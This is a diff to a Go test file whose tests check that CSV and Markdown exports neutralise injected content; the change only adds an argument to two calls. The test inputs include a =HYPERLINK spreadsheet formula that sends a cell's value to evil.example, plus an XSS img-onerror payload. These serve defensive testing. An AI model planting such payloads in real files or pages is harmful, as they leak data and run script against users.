@@ -18,7 +18,7 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 	}
 	id := c.ps.out.Cands[0].Offer.ID
 	sheet := "offer_id,source,as_of\n" + id + `,"=HYPERLINK(""http://evil.example/?""&A1,""prices"")",2026-11-01` + "\n"
-	if !c.applySheet("shared.csv", sheet) {
+	if !c.applySheet(none, "shared.csv", sheet) {
 		t.Fatalf("sheet refused: %s", c.sheet.Err)
 	}
 	recs, err := csv.NewReader(strings.NewReader(page.ExportCSV(c.viewIn()))).ReadAll()
@@ -44,8 +44,8 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 // labelled by what it is.
 func TestExportMarkdownEscapes(t *testing.T) {
 	c, _ := load(t)
-	c.applyFragment("m=custom&cfgn=" + strings.NewReplacer("|", "%7C", "<", "%3C", ">", "%3E", " ", "%20", "!", "%21").Replace("x|y <img src=x onerror=alert(1)> ![t](http://e.example/p.png)") +
-		"&cfg=" + page.Deflate(`{"model_type":"llama","hidden_size":256,"intermediate_size":512,"num_hidden_layers":2,"num_attention_heads":4,"vocab_size":1000}`))
+	c.applyFragment(none, "m=custom&cfgn="+strings.NewReplacer("|", "%7C", "<", "%3C", ">", "%3E", " ", "%20", "!", "%21").Replace("x|y <img src=x onerror=alert(1)> ![t](http://e.example/p.png)")+
+		"&cfg="+page.Deflate(`{"model_type":"llama","hidden_size":256,"intermediate_size":512,"num_hidden_layers":2,"num_attention_heads":4,"vocab_size":1000}`))
 	md := page.ExportMarkdown(c.viewIn())
 	if c.own.name == "" || !strings.Contains(md, "x\\|y") {
 		t.Fatalf("the custom name is not in the export (%q):\n%s", c.own.name, md)
